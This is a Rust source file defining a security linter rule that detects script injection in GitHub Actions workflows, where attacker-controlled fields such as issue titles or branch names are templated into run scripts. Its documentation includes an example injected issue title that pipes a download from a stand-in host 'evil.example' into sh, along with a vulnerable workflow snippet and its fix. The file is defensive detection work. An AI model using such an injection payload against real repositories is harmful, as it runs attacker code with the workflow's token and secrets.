use trustmap_model::Model;
use trustmap_model::gha::{Expression, Job, KeyValue, Scalar, Step, Workflow};

use super::contexts::is_attacker_controlled;
use super::env_entry;
use crate::{Related, Rule, RuleMeta, Sink, declare_rule};

declare_rule! {
    /// ## What it finds
    ///
    /// A `${{ … }}` expression inside a `run:` script (or the `script:` of
    /// `actions/github-script`) that expands a value an outsider writes: issue, pull request,
    /// comment, review and discussion titles and bodies, branch names (`github.head_ref`,
    /// `…head.ref`, `workflow_run.head_branch`), commit messages and author names, wiki page
    /// names. It also follows one hop through `env:`: `TITLE: ${{ github.event.issue.title }}`
    /// and then `${{ env.TITLE }}` in the script.
    ///
    /// ## Why it matters
    ///
    /// GitHub pastes the expression's value into the script text before the shell runs it.
    /// An issue titled `"; curl -sSf https://evil.example/x | sh; echo "` becomes shell code
    /// running in your workflow, with its `GITHUB_TOKEN`, its secrets and its runner. Anyone
    /// on the internet can open an issue or name a branch; no review stands in the way.
    ///
    /// ## Example
    ///
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "New issue: ${{ github.event.issue.title }}"
    /// ```
    ///
    /// ## Fix
    ///
    /// Pass the value through an environment variable and quote it in the shell, so it stays
    /// data:
    ///
    /// ```yaml
    ///       - env:
    ///           TITLE: ${{ github.event.issue.title }}
    ///         run: echo "New issue: $TITLE"
    /// ```
    ///
    /// In `actions/github-script`, read `context.payload.issue.title` instead of templating it.
    ///
    /// ## References
    ///
    /// - GitHub Docs, "Security hardening for GitHub Actions: understanding the risk of script injections"
    pub(crate) GhaScriptInjection {
        id: "GHA-002",
        name: "gha-script-injection",
        severity: High,
        capability: Failure,
        languages: [GithubActions],
        equivalents: {
            checkov: ["CKV_GHA_2"],
            cwe: ["CWE-94", "CWE-78"],
            zizmor: ["template-injection"],
            poutine: ["injection"],
        },
    }
}

impl Rule for GhaScriptInjection {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, model: &Model, out: &mut Sink) {
        for w in &model.workflows {
            for job in &w.jobs {
                for step in &job.steps {
                    let mut sinks: Vec<(&Scalar, &str)> = Vec::new();
                    if let Some(run) = &step.run {
                        sinks.push((run, "`run` script"));
                    }
                    if step.uses_action("actions/github-script")
                        && let Some(script) = step.input("script")
                    {
                        sinks.push((&script.value, "`github-script` script"));
                    }
                    if sinks.is_empty() {
                        continue;
                    }
                    let mut clean = true;
                    for (scalar, place) in sinks {
                        for e in &scalar.expressions {
                            if let Some(hit) = injected(w, job, step, e) {
                                clean = false;
                                report(out, job, e, &hit, place);
                            }
                        }
                    }
                    if clean {
                        out.pass();
                    }
                }
            }
        }
    }
}

/// How an expression brings attacker-controlled text in.
enum Hit<'a> {
    Direct(&'a str),
    /// Through `env.NAME`: the entry and the attacker-controlled context it holds.
    Env(&'a KeyValue, &'a str),
}

fn injected<'a>(
    w: &'a Workflow,
    job: &'a Job,
    step: &'a Step,
    e: &'a Expression,
) -> Option<Hit<'a>> {
    e.contexts.iter().find_map(|c| {
        if is_attacker_controlled(&c.path) {
            return Some(Hit::Direct(&c.path));
        }
        let name = c.path.strip_prefix("env.")?;
        let kv = env_entry(w, job, Some(step), name)?;
        let inner = kv
            .value
            .expressions
            .iter()
            .flat_map(|e| &e.contexts)
            .find(|c| is_attacker_controlled(&c.path))?;
        Some(Hit::Env(kv, &inner.path))
    })
}

fn report(out: &mut Sink, job: &Job, e: &Expression, hit: &Hit<'_>, place: &str) {
    match hit {
        Hit::Direct(path) => {
            let message = format!("attacker-controlled `{path}` is expanded into the {place}");
            out.report(&job.meta, e.span, &[], message);
        }
        Hit::Env(kv, path) => {
            let message = format!(
                "`env.{}` holds attacker-controlled `{path}` and is expanded into the {place}",
                kv.key
            );
            out.report(&job.meta, e.span, &[], message)
                .related
                .push(Related {
                    span: kv.value.span,
                    note: format!("`{}` is set from `{path}` here", kv.key),
                });
        }
    }
}
